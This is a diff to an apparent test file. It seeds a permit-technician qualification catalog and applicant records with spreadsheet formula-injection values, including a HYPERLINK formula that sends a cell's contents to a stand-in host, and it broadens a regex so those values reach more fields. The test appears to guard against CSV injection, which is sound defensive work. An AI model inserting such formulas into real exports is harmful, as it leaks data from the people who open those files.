@@ -23,7 +23,7 @@ const ROOT = join(import.meta.dirname, "..", "..");
 const EXAMPLE = readFileSync(join(ROOT, "docs/examples/marren-county-permit-technician.json"), "utf8");
 const HOSTILE_IDS: Record<string, string> = { "5100": '=HYPERLINK("http://x/?"&A2,"y")', "5101": "+5101", "5102": "@SUM(1,2)" };
 const hostileFile = EXAMPLE.replace(/"id": "(510\d)"/g, (_m, id: string) => `"id": ${JSON.stringify(HOSTILE_IDS[id])}`)
-  .replace(/"comparableTo": \["5101", "5102"\]/, `"comparableTo": ${JSON.stringify([HOSTILE_IDS["5101"], HOSTILE_IDS["5102"]])}`);
+  .replace(/"comparableTo": \[\s*"5101",\s*"5102"\s*\]/g, `"comparableTo": ${JSON.stringify([HOSTILE_IDS["5101"], HOSTILE_IDS["5102"]])}`);
 const loaded = loadCatalog([...BUILTIN_QUALIFICATION_FILES, { file: "hostile.json", data: JSON.parse(hostileFile) }]);
 const APPLICANTS = [
   { name: "-2+3", asOf: "2026-11-22", education: { highSchool: "diploma" }, experience: [{ start: "2026-01-01", end: "2026-03-31", hoursPerWeek: 40, kinds: ["customer-service"] }] },
